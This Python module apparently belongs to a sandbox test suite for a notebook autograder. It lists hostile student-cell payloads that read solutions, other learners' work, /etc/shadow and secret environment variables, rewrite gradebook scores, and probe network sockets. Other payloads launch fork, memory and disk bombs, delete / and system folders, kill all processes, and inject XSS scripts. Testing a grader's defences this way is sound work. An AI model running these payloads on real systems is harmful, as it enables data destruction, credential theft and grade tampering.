"""Attacks on everything else: other people's work, the machine, the reader of the feedback.

Those on the machine come last in a notebook that is right: what was earned before must stay.
"""

from .attack import FULL, Attack, answer, changed, first, last

_READ = """
import os, pathlib, sqlite3, sys
import cnn_lesson
course, package = pathlib.Path(COURSE), pathlib.Path(cnn_lesson.__file__).parent
def look(path):
    try:
        data = path.read_bytes() if path.is_file() else os.listdir(path)
    except OSError:
        return
    if data:
        print("FOUND" + "!", path, data[:300])
        try:
            (pathlib.Path("evidence") / f"{abs(hash(path))}.npz").write_bytes(bytes(data))
        except Exception: pass
"""
_WRITE = """
import os, pathlib
import cnn_lesson
course, package = pathlib.Path(COURSE), pathlib.Path(cnn_lesson.__file__).parent
def scribble(path, text="hostile-7f3a"):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    except OSError as error:
        print(type(error).__name__)
"""
_GRADEBOOK = """
import sqlite3
try:
    book = sqlite3.connect(COURSE + "/gradebook.db", timeout=1)
    book.execute("update grade set manual_score = 7, needs_manual_grade = 0")
    book.execute("update base_cell set max_score = 1000")
    book.commit()
except sqlite3.Error:
    pass
try:
    open(COURSE + "/gradebook.db", "a").write("hostile-7f3a")
except OSError:
    pass
"""
_ENVIRONMENT = """
for name, value in os.environ.items():
    if any(word in name for word in ("TOKEN", "SECRET", "KEY", "PASS")):
        print("FOUND" + "!", name, value)
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        text = open(f"/proc/{pid}/environ", "rb").read() + open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    if b"CANARY-SECRET" in text:
        print("FOUND" + "!", pid, text[:300])
"""
_NETWORK = """
import socket
places = [(socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("10.255.255.1", 80)),
          (socket.AF_INET6, ("::1", PORT)), (socket.AF_UNIX, "\\0hostile-7f3a")]
for family, address in places:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as line:
            line.settimeout(0.2)
            line.connect(address)
            line.sendall(b"hostile-7f3a")
            print("FOUND" + "!", address)
    except OSError as error:
        print(type(error).__name__)
"""
_PARENT = """
import os, signal
pids = {os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))}
for pid in pids - {os.getpid(), 1, 0}:
    try:
        os.kill(pid, 0)
        if b"CANARY-SECRET" in open(f"/proc/{pid}/environ", "rb").read():
            print("FOUND" + "!", pid)
    except OSError:
        pass
"""
_LINGER = """
import subprocess, sys
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(25)", "hostile-7f3a"],
                     start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
_DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(3, 256):
            try: os.close(number)
            except OSError: pass
        os.execlp("python3", "python3", "-c", "import time; time.sleep(25)", "hostile-7f3a")
    os._exit(0)
"""
_STUBBORN = """
import signal, time
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        time.sleep(1000)
    except BaseException:
        pass
"""
_SWALLOWING = """
while True:
    try:
        while True: pass
    except BaseException:
        pass
"""
_MEMORY = "held = []\nwhile True: held.append(bytearray(50 * 2**20))"
_PROCESSES = """
import os
while True:
    try: os.fork()
    except OSError: pass
"""
_THREADS = """
import threading, time
while True:
    try: threading.Thread(target=time.sleep, args=(1000,)).start()
    except RuntimeError: pass
"""
_DISK = """
import itertools
for number in itertools.count():
    try:
        with open(f"/tmp/{number}", "wb") as file:
            for _ in range(100): file.write(bytes(10**6))
    except OSError:
        pass
"""
_INODES = "import itertools\nfor n in itertools.count(): open(f'/tmp/{n}', 'w').close()"
_KILL_ALL = "import os\nos.kill(-1, 9)"
_DELETE = """
import pathlib, shutil, sys
places = (COURSE, sys.prefix, "/usr", "/etc", "/sockets", "/tmp/job/inputs", pathlib.Path.home())
for path in places:
    shutil.rmtree(path, ignore_errors=True)
"""
_FILES = """
import os
for number in range(3, 4096):
    try: os.close(number)
    except OSError: pass
"""
_FLOOD = "import sys\nsys.stdout.write(('x' * 999 + '\\n') * 30_000)"
_DISPLAYS = "from IPython.display import display\nfor n in range(30_000): display(n)"
_SCRIPT = "<script>hostile_7f3a()</script><img src=x onerror=hostile_7f3a()>"
_HTML = f"""
from IPython.display import HTML, Javascript, Markdown, SVG, display
script = {_SCRIPT!r}
display(HTML(script), Markdown(script), Javascript("hostile_7f3a()"))
display({{"text/html": script, "image/svg+xml": "<svg onload=hostile_7f3a()></svg>"}}, raw=True)
print(script)
"""
_SCRIPTED_REPR = f"""
class Page:
    _repr_html_ = __repr__ = lambda self: {_SCRIPT!r}
Page.__name__ = Page.__qualname__ = {_SCRIPT!r}
def convolve(image, kernel, stride=1):
    raise type({_SCRIPT!r}, (Exception,), {{}})({_SCRIPT!r})
"""


def _markdown(notebook: dict) -> None:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] += "\n\n" + _SCRIPT
    source = f"{_SCRIPT}\n[x](javascript:hostile_7f3a())\n<iframe srcdoc='{_SCRIPT}'></iframe>"
    notebook["cells"].insert(
        0, {"cell_type": "markdown", "id": "m", "metadata": {}, "source": source}
    )


SIGHT = [
    Attack("read-held-out", "reading sources: the kept-back images", first(_READ + (
        "for path in package.glob('course/*.npz'): look(path)"))),
    Attack("read-source", "reading sources: solutions in source/ and solutions/", first(_READ + (
        "for path in course.glob('s*/cnn/*.ipynb'): look(path)\nlook(course / 'source')"))),
    Attack("read-others", "reading other learners", first(_READ + (
        "look(course / 'submitted')\n"
        "for path in course.glob('submitted/*/*/*.ipynb'): look(path)"))),
    Attack("read-gradebook", "reading the gradebook and the grader's seed", first(_READ + (
        "look(course / 'gradebook.db')\nlook(course / '.grading' / 'seed.json')"))),
    Attack("read-environment", "reading the grader's environment", first(_READ + _ENVIRONMENT)),
    Attack("read-machine", "reading the machine's accounts and keys", first(_READ + (
        "for name in ('/etc/shadow', '/etc/gshadow', '/etc/ssl/private', '/var/log', '/home'):\n"
        "    look(pathlib.Path(name))"))),
    Attack("read-processes", "seeing and signalling other processes", first(_PARENT)),
    Attack("network", "network", first(_NETWORK)),
]  # fmt: skip
TOUCH = [
    Attack("write-gradebook", "writing the gradebook", first(_GRADEBOOK)),
    Attack("write-configuration", "writing configuration", first(_WRITE + (
        "scribble(course / 'nbgrader_config.py')\n"
        "scribble(pathlib.Path.home() / '.jupyter/nbgrader_config.py', 'hostile_7f3a = 1')\n"
        "scribble(pathlib.Path.home() / '.ipython/profile_default/startup/x.py', '0')"))),
    Attack("write-others", "writing other learners' work", first(_WRITE + (
        "scribble(course / 'submitted/honest/cnn/01-convolution.ipynb', '{}')\n"
        "scribble(course / 'submitted/ghost/cnn/01-convolution.ipynb', '{}')"))),
    Attack("write-source", "writing the masters and the stubs", first(_WRITE + (
        "scribble(course / 'source/cnn/01-convolution.ipynb', '{}')\n"
        "scribble(course / 'notebooks/cnn/01-convolution.ipynb', '{}')"))),
    Attack("write-package", "writing the lesson's package", first(_WRITE + (
        "scribble(package / 'hostile-7f3a.py')\nscribble(package / 'checks.py')\n"
        "scribble(pathlib.Path('/usr/lib/hostile-7f3a'))")), safe=False),
    Attack("write-tmp", "leaving files in /tmp and in the home folder", first(_WRITE + (
        "scribble(pathlib.Path('/tmp/hostile-7f3a'))\n"
        "scribble(pathlib.Path.home() / 'hostile-7f3a')\n"
        "scribble(pathlib.Path('/dev/shm/hostile-7f3a'))"))),
    Attack("background", "background processes", last(_LINGER), FULL),
    Attack("daemon", "background processes, forked twice", last(_DAEMON), FULL),
    Attack("delete", "deleting all that can be", last(_DELETE), FULL, safe=False),
    Attack("delete-own", "deleting its own evidence", last("import shutil\n"
           "shutil.rmtree('/', ignore_errors=True)"), safe=False),
]  # fmt: skip
STOP = [
    Attack("loop", "an endless loop", last("while True: pass"), FULL),
    Attack("loop-swallows", "an endless loop that swallows interrupts", last(_SWALLOWING), FULL),
    Attack("loop-ignores", "an endless sleep that ignores signals", last(_STUBBORN), FULL),
    Attack("loop-c", "an endless computation that sees no signal", last("10 ** 10 ** 9"), FULL),
    Attack("exit", "os._exit", last("import os\nos._exit(0)"), FULL),
    Attack("exit-polite", "sys.exit and exit()", last("import sys\nsys.exit(0)"), FULL),
    Attack("exit-kernel", "the kernel asked to end", last(
        "get_ipython().kernel.do_shutdown(False)\nget_ipython().ask_exit()"), FULL),
    Attack("segfault", "a crash in C", last("import ctypes\nctypes.string_at(0)"), FULL),
    Attack("recursion", "a crash by recursion", last("import sys\nsys.setrecursionlimit(10**8)\n"
           "def f(): return f() + f()\nf()"), FULL, safe=False),
    Attack("stop", "the kernel stops itself", last("import os, signal\nos.kill(os.getpid(), "
           "signal.SIGSTOP)"), FULL),
    Attack("input", "waiting for an answer", last("input('?')"), FULL),
    Attack("files-closed", "closing every file", last(_FILES), FULL),
    Attack("memory", "memory bomb", last(_MEMORY), FULL, safe=False),
    Attack("processes", "process bomb", last(_PROCESSES), FULL, safe=False),
    Attack("threads", "a bomb of threads", last(_THREADS), FULL, safe=False),
    Attack("disk", "disk bomb", last(_DISK), FULL, safe=False),
    Attack("inodes", "disk bomb: a million empty files", last(_INODES), FULL, safe=False),
    Attack("kill-all", "kill -9 -1", last(_KILL_ALL), FULL, safe=False),
    Attack("output", "30 MB of output", last(_FLOOD), FULL),
    Attack("displays", "30 000 outputs", last(_DISPLAYS), FULL),
    Attack("log-noise", "noise on stderr in every cell", first(
        "import sys\nget_ipython().events.register('pre_run_cell', "
        "lambda *a: print('hostile', file=sys.stderr))")),
]  # fmt: skip
SHOW = [
    Attack("script-output", "scripts in output", first(_HTML)),
    Attack("script-markdown", "scripts in markdown", changed(_markdown)),
    Attack("script-answer", "scripts in an answer", answer("q3", f"answer_q3 = {_SCRIPT!r}")),
    Attack("script-error", "scripts in errors and names", answer("convolve", _SCRIPTED_REPR)),
]  # fmt: skip
HARM = [*SIGHT, *TOUCH, *STOP, *SHOW]
